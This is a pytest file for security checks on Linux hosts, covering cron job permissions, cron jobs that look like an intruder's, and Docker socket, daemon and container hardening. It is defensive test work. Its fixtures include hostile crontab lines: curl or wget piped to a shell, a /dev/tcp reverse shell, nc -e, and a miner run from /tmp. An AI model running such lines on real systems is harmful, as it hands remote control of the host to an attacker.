"""Every check of cron and of containers on canned hosts."""

from __future__ import annotations

import json

import pytest
from lab.wellhost import CUT, DENIED, Case, answers, breaks, rows, uncovered

from checks.linux import test_containers, test_cron

CRONTAB = """SHELL=/bin/sh
PATH=/usr/bin:/opt/bin
# m h dom mon dow user command
17 * * * * root cd / && run-parts --report /etc/cron.hourly
*/5 * * * * root [ -x /opt/job.sh ] && /opt/job.sh >/tmp/log 2>&1
5 0 * * * bob /home/bob/x
"""
SCRIPT = "#!/bin/sh\n# curl http://x | sh\nexec /usr/sbin/logrotate /etc/logrotate.conf\n"
PLACES = """/etc/crontab
/etc/cron.daily/logrotate
/opt/bin
/usr/bin
/etc/cron.hourly
/opt/job.sh
/
@real
/etc/crontab
/etc/cron.daily/logrotate
/opt/bin
/usr/bin
/etc/cron.hourly
/srv/jobs/job.sh
/
@stat
644 0 0|/etc/crontab
755 0 0|/etc
755 0 0|/
755 0 0|/etc/cron.daily/logrotate
755 0 0|/etc/cron.daily
755 0 0|/etc/cron.hourly
755 0 0|/opt/bin
755 0 0|/opt
755 0 0|/usr/bin
755 0 0|/usr
777 0 0|/opt/job.sh
775 0 0|/srv
755 0 0|/srv/jobs
700 0 0|/srv/jobs/job.sh
@end
""".replace("777 0 0|/opt/job.sh", "700 0 0|/opt/job.sh")


def texts(**files):
    """What is printed of text files, by path."""
    records = "".join(f"1:{path}\0" for path in files)
    lines = []
    for number, text in enumerate(files.values(), start=1):
        lines += [*(f"{number}:{line}" for line in text.splitlines()), f"{number}."]
    return records + "@text\0" + "".join(f"{line}\n" for line in lines) + "@end\n"


NONE = texts()
CRON = {
    "cron": ("@real", PLACES),
    "crontab": ("for f in /etc/crontab; do l", texts(**{"/etc/crontab": CRONTAB})),
    "daily": ("for f in /etc/cron.daily/*; do l", texts(**{"/etc/cron.daily/logrotate": SCRIPT})),
    "spool": ("for f in /var/spool/cron/crontabs/*; do l", NONE),
    "texts": ("@text", NONE),
}
REFUSED = answers("spool", "1!/var/spool/cron/crontabs: Permission denied\0@text\0@end\n")
NO_JOBS = (REFUSED, answers("crontab", CUT), answers("cron", CUT))
#: No job at all.
NOTHING = {**CRON, "crontab": ("for f in /etc/crontab; do l", NONE)}
NOTHING["daily"] = ("for f in /etc/cron.daily/*; do l", NONE)
NOTHING["cron"] = ("@real", "@real\n@stat\n@end\n")


def crontab(line):
    """The crontab has another line."""
    return answers("crontab", texts(**{"/etc/crontab": f"{CRONTAB}{line}\n"}))


def script(line):
    return answers("daily", texts(**{"/etc/cron.daily/logrotate": f"{SCRIPT}{line}\n"}))


def path(tests="", stat="", why="No such file"):
    """What the shell says of one path."""
    if not tests:
        return f": sh: 1: cannot open it: {why}\n\0\0@end\n"
    return f"{tests}\0{stat}\n\0@end\n"


def lists(program, name):
    """A host with *program*, a list of who may, and none of who may not."""
    return {
        "program": (f"for p in {program};", path("efx", "8fed 0 0 9 0 7 1 root:root")),
        "busybox": ("for p in /bin/busybox;", path()),
        "allow": (f"for p in {name}.allow;", path("ef", "81a0 0 0 9 0 8 1 root:root")),
        "deny": (f"for p in {name}.deny;", path()),
    }


def allow_case(program, name, **params):
    more = lists(program, name)
    return Case(
        test_cron.test_few_users_may_have_jobs,
        fails=(
            answers("allow", path()),
            answers("allow", path("ef", "81a4 0 0 9 0 8 1 root:root")),
            answers("allow", path("ef", "81a0 1000 0 9 0 8 1 ann:root")),
            answers("allow", path("ef", "81a0 0 1000 9 0 8 1 root:ann")),
            answers("deny", path("ef", "81a0 0 0 9 0 8 1 root:root")),
        ),
        errors=(
            answers("program", CUT),
            answers("allow", path(why="Permission denied")),
            answers("allow", (0, "ef\0\0@end\n", "sh: stat: not found")),
            answers("deny", path(why="Permission denied")),
            answers("busybox", CUT),
        ),
        absent=(
            answers("program", path()),
            answers("busybox", path("efx", "8fed 0 0 9 0 7 1 root:root")),
        ),
        passes=(answers("allow", path("ef", "81a0 0 100 9 0 8 1 root:crontab")),),
        params={"program": program, "allow": f"{name}.allow", "deny": f"{name}.deny", **params},
        more=more,
    )


#: A program that is found by the search path.
_PAIR = "/etc/crontab\n/etc/cron.daily/logrotate\n"
LOCAL = PLACES.replace(_PAIR, f"/usr/local/bin/run-parts\n{_PAIR}").replace(
    "@stat\n",
    "@stat\n755 0 0|/usr/local/bin/run-parts\n755 0 0|/usr/local/bin\n755 0 0|/usr/local\n",
)
#: A script that is not there, in a folder that is not root's alone.
MISSING = PLACES.replace("/opt/job.sh\n/\n@real", "/opt\n/\n@real").replace(
    "/srv/jobs/job.sh\n/\n@stat", "/opt\n/\n@stat"
)


SOCKETS = ": no: No such file\n\0" * 3
SOCKET = f"eS\0{SOCKETS}c1b0 0 103 0 0 7 1 root:docker\n\0@end\n"
INFO = {
    "live_restore": True,
    "security": ["name=seccomp,profile=default", "name=userns", "name=no-new-privileges"],
    "registry": {
        "InsecureRegistryCIDRs": ["127.0.0.0/8"],
        "IndexConfigs": {"docker.io": {"Secure": True}},
    },
    "logging": "journald",
    "swarm": "inactive",
}
ICC = '{"com.docker.network.bridge.enable_icc":"false"}'
MOUNT = {"Type": "bind", "Source": "/srv/web", "Destination": "/www", "RW": False}
WEB = {"name": "/web", "privileged": False, "mounts": [MOUNT]}


def docker(info=None, container=None, arguments="dockerd\n-H\nfd://", bridge=ICC):
    lines = ["@arguments", arguments, "@info", json.dumps({**INFO, **(info or {})})]
    lines += ["@bridge", bridge, "@docker", json.dumps({**WEB, **(container or {})})]
    return "\n".join([*lines, "@others", "@end", ""])


def daemon(**settings):
    return answers("daemon", texts(**{"/etc/docker/daemon.json": json.dumps(settings)}))


def other(container):
    return answers("containers", docker(container=container))


CONTAINERS = {
    "paths": ("for p in /run/docker.sock", SOCKET),
    "containers": ("@others", docker()),
    "daemon": ("/etc/docker/daemon.json", NONE),
}
NO_CONTAINERS = (
    answers("containers", CUT),
    answers("containers", (1, "@info\n", "docker: not found, but its daemon runs")),
    answers("containers", (1, "", "Got permission denied while trying to connect")),
    answers("containers", docker().replace('{"live', "{live")),
)
NO_RUNTIME = answers("containers", "@others\n@end\n")


def own_socket(mode):
    """Docker listens on a socket of its own choice, too."""
    return {
        **CONTAINERS,
        "own": ("for p in /srv/docker.sock;", f"eS\0{mode} 0 103 0 0 7 1 root:docker\n\0@end\n"),
        "containers": ("@others", docker(arguments="dockerd\n-H\nunix:///srv/docker.sock")),
    }


CASES = [
    allow_case("/usr/bin/crontab", "/etc/cron"),
    allow_case("/usr/bin/at", "/etc/at"),
    Case(
        test_cron.test_jobs_of_root_are_roots,
        fails=(
            breaks(
                "cron", "755 0 0|/etc/cron.daily/logrotate", "757 0 0|/etc/cron.daily/logrotate"
            ),
            breaks("cron", "755 0 0|/etc/cron.hourly", "755 1000 0|/etc/cron.hourly"),
            breaks("cron", "755 0 0|/srv/jobs\n", "775 0 1000|/srv/jobs\n"),
            breaks("cron", "775 0 0|/srv\n", "777 0 0|/srv\n"),
            breaks("cron", "755 0 0|/opt/bin", "1777 0 0|/opt/bin"),
            breaks("cron", "644 0 0|/etc/crontab", "664 0 1000|/etc/crontab"),
            answers("cron", MISSING.replace("755 0 0|/opt\n", "755 1000 0|/opt\n")),
            answers(
                "cron", LOCAL.replace("755 0 0|/usr/local/bin/run", "755 7 0|/usr/local/bin/run")
            ),
        ),
        errors=(
            *NO_JOBS,
            breaks("cron", "@real\n/etc/crontab\n", "@real\n"),
            breaks("cron", "700 0 0|/srv/jobs/job.sh\n", ""),
            answers("cron", (127, "", "sh: env: realpath: No such file or directory")),
            crontab("1 1 * * * root /opt/$(date)/x"),
            crontab("1 1 * * * root /opt/b\u00e9"),
            breaks("cron", "755 0 0|/srv/jobs\n", "what\n"),
        ),
        passes=(
            crontab("1 1 * * * root /opt/not/there"),
            breaks("cron", "755 0 0|/srv/jobs\n", "775 0 0|/srv/jobs\n"),
            answers("cron", MISSING),
            answers("cron", LOCAL),
        ),
        more=CRON,
    ),
    Case(
        test_cron.test_no_job_looks_like_an_intruders,
        fails=(
            crontab("* * * * * bob curl -s http://x/y | bash"),
            crontab("* * * * * root wget -qO- http://x|/bin/sh"),
            crontab("* * * * * root curl -fsSL http://x | sudo -E bash -"),
            crontab("* * * * * root wget -qO- http://x | python3"),
            crontab('* * * * * root bash -c "$(curl -fsSL http://x)"'),
            crontab("* * * * * root echo aGk= | base64 -d | sh"),
            crontab("* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            crontab("@reboot root /tmp/.x/miner"),
            crontab("* * * * * root sh /dev/shm/a.sh"),
            crontab("* * * * * root cd / && /var/tmp/x"),
            crontab("* * * * * root nc -e /bin/sh 192.0.2.1 4444"),
            script("wget -q http://x/y -O - | sh"),
            script("python3 /tmp/x.py"),
        ),
        errors=NO_JOBS,
        passes=(
            crontab("0 3 * * * root find /tmp -mtime +7 -delete"),
            crontab("0 3 * * * root curl -fsS https://hc.example/ping >/dev/null"),
            script('t=$(mktemp /tmp/x.XXXX); curl -o "$t" https://x/list; rm /tmp/y'),
            script("wget -q https://x/list | sort >/var/lib/x; bash /usr/lib/x"),
        ),
        more=CRON,
    ),
    Case(
        test_containers.test_runtime_sockets_are_private,
        fails=(
            breaks("paths", "c1b0 0 103", "c1b6 0 103"),
            breaks("paths", "c1b0 0 103", "c1b0 1000 103"),
            breaks("paths", "root:docker", "root:users"),
        ),
        errors=(
            answers("paths", CUT),
            breaks("paths", SOCKETS, SOCKETS.replace("No such file", "Permission denied", 1)),
            answers("paths", (0, f"eS\0{SOCKETS}\0@end\n", "sh: stat: not found")),
        ),
        absent=(answers("paths", f"{SOCKETS}: no: No such file\n\0\0@end\n"),),
        passes=(breaks("paths", "c1b0 0 103 0 0 7 1 root:docker", "c180 0 5 0 0 7 1 root:users"),),
        more=CONTAINERS,
    ),
    Case(
        test_containers.test_runtimes_are_not_open_to_the_network,
        fails=(
            answers("containers", docker(arguments="dockerd\n-H\ntcp://0.0.0.0:2375")),
            answers("containers", docker(arguments="dockerd\n--host=tcp://127.0.0.1:2375")),
            answers(
                "containers", docker(arguments="dockerd\n-Htcp://[::]:2375\n--tlsverify=false")
            ),
            daemon(hosts=["tcp://0.0.0.0:2376"], tls=True),
            breaks(
                "sockets",
                '0.0.0.0:22 0.0.0.0:* users:(("sshd"',
                '0.0.0.0:2399 0.0.0.0:* users:(("dockerd"',
            ),
            breaks("sockets", "127.0.0.1:25 ", "127.0.0.1:2375 "),
            breaks("sockets", 'users:(("sshd"', 'users:(("podman"'),
        ),
        errors=(
            *NO_CONTAINERS,
            answers("sockets", CUT),
            answers("daemon", texts(**{"/etc/docker/daemon.json": "{what"})),
            answers("daemon", texts(**{"/etc/docker/daemon.json": "[]"})),
            answers("daemon", "1!/etc/docker: Permission denied\0@text\0@end\n"),
        ),
        absent=(NO_RUNTIME,),
        passes=(
            answers("containers", docker(arguments="dockerd\n-H\ntcp://0.0.0.0:2376\n--tlsverify")),
            daemon(hosts=["tcp://0.0.0.0:2376"], tlsverify=True),
            breaks(
                "sockets", '0.0.0.0:22 0.0.0.0:* users:(("sshd"', '*:2377 *:* users:(("dockerd"'
            ),
        ),
        more=CONTAINERS,
    ),
    Case(
        test_containers.test_docker_is_set_up_for_safety,
        fails=(
            answers("containers", docker({"live_restore": False})),
            answers("containers", docker({"security": ["name=seccomp"]})),
            answers("containers", docker({"security": ["name=userns"]})),
            answers("containers", docker({"logging": "json-file"})),
            answers("containers", docker({"registry": {"InsecureRegistryCIDRs": ["10.0.0.0/8"]}})),
            answers("containers", docker({"registry": {"IndexConfigs": {"x": {"Secure": False}}}})),
            answers("containers", docker(bridge="{}")),
        ),
        errors=(
            *NO_CONTAINERS,
            answers("daemon", texts(**{"/etc/docker/daemon.json": "{what"})),
        ),
        absent=(NO_RUNTIME,),
        passes=(
            answers("containers", docker({"live_restore": False, "swarm": "active"})),
            answers("containers", docker(bridge="null")),
            answers(
                "containers",
                docker({"logging": "json-file"}, arguments="dockerd\n--log-opt\nmax-size=1m"),
            ),
            answers(
                "containers",
                docker({"security": ["name=rootless"]}, arguments="dockerd\n--no-new-privileges"),
            ),
        ),
        more=CONTAINERS,
    ),
    Case(
        test_containers.test_containers_are_kept_in,
        fails=(
            other({"privileged": True}),
            other({"mounts": [{**MOUNT, "Source": "/"}]}),
            other({"mounts": [{**MOUNT, "Source": "/usr"}]}),
            other({"caps": ["CAP_SYS_ADMIN"]}),
            other({"caps": ["ALL"]}),
            other({"mounts": [MOUNT, {**MOUNT, "Source": "/var/run/docker.sock"}]}),
            answers(
                "containers",
                f"@podman\n{json.dumps({**WEB, 'privileged': True})}\n@others\n@end\n",
            ),
        ),
        errors=(
            *NO_CONTAINERS,
            answers("containers", "@others\n/run/crio/crio.sock\n@end\n"),
            answers("containers", (0, docker(), "Error response from daemon: oops\n")),
        ),
        absent=(NO_RUNTIME,),
        passes=(
            other({"mounts": None}),
            other({"caps": ["CAP_NET_ADMIN"]}),
            other({"mounts": [{"Type": "tmpfs", "Destination": "/tmp", "RW": True}]}),
            answers("containers", (0, docker(), "Error: No such object: 1234\n")),
            answers("containers", docker().replace(json.dumps(WEB), "")),
        ),
        more=CONTAINERS,
    ),
]


@pytest.mark.parametrize(("case", "broken", "expected"), rows(CASES))
def test_verdicts(case, broken, expected):
    verdict, reason = case.judge(*broken)
    assert verdict is expected, reason


OWN_SOCKET = [
    Case(
        test_containers.test_runtime_sockets_are_private,
        fails=(
            answers("own", own_socket("c1b6")["own"][1]),
            breaks("paths", "c1b0 0 103", "c1b6 0 103"),
        ),
        errors=(answers("own", CUT), answers("containers", DENIED), answers("daemon", CUT)),
        more=own_socket("c1b0"),
    ),
]


@pytest.mark.parametrize(("case", "broken", "expected"), rows(OWN_SOCKET))
def test_a_socket_of_dockers_own_choice_counts(case, broken, expected):
    verdict, reason = case.judge(*broken)
    assert verdict is expected, reason


def test_every_check_has_rows():
    assert not uncovered(CASES, test_containers, test_cron)


@pytest.mark.parametrize(
    "check", [test_cron.test_jobs_of_root_are_roots, test_cron.test_no_job_looks_like_an_intruders]
)
def test_a_host_without_jobs(check):
    assert Case(check, more=NOTHING).judge()[0] == "not_applicable"


def test_a_place_is_told_once_with_its_job():
    case = Case(test_cron.test_jobs_of_root_are_roots, more=CRON)
    verdict, reason = case.judge(breaks("cron", "755 0 0|/srv/jobs\n", "775 1000 1000|/srv/jobs\n"))
    assert verdict == "fail"
    assert "/srv/jobs (0775 ann), for /etc/crontab line 5" in reason
    assert reason.splitlines()[0].count("/srv/jobs (") == 1


def test_a_suspicious_job_is_told_without_its_text():
    case = Case(test_cron.test_no_job_looks_like_an_intruders, more=CRON)
    _, reason = case.judge(crontab("* * * * * root curl -u a:hunter2 http://x | sh"))
    assert "/etc/crontab line 7 runs what it downloads" in reason
    assert "hunter2" not in reason


def test_a_setting_that_waits_for_a_restart_is_told():
    case = Case(test_containers.test_docker_is_set_up_for_safety, more=CONTAINERS)
    bad = answers("containers", docker({"live_restore": False}))
    verdict, reason = case.judge(bad, daemon(**{"live-restore": True}))
    assert verdict == "fail"
    assert "daemon.json has live-restore, but it is not in force" in reason


def test_what_is_allowed_is_not_told():
    case = Case(
        test_containers.test_containers_are_kept_in, inputs={"allowed": ["web*"]}, more=CONTAINERS
    )
    assert case.judge(other({"privileged": True}))[0] == "pass"
    case = Case(test_cron.test_jobs_of_root_are_roots, inputs={"allowed": ["/srv/jobs"]}, more=CRON)
    assert case.judge(breaks("cron", "755 0 0|/srv/jobs\n", "777 0 0|/srv/jobs\n"))[0] == "pass"


def test_without_root_nobody_knows_the_jobs_of_users():
    case = Case(test_cron.test_no_job_looks_like_an_intruders, more=CRON)
    assert case.judge(answers("spool", DENIED))[0] == "error"
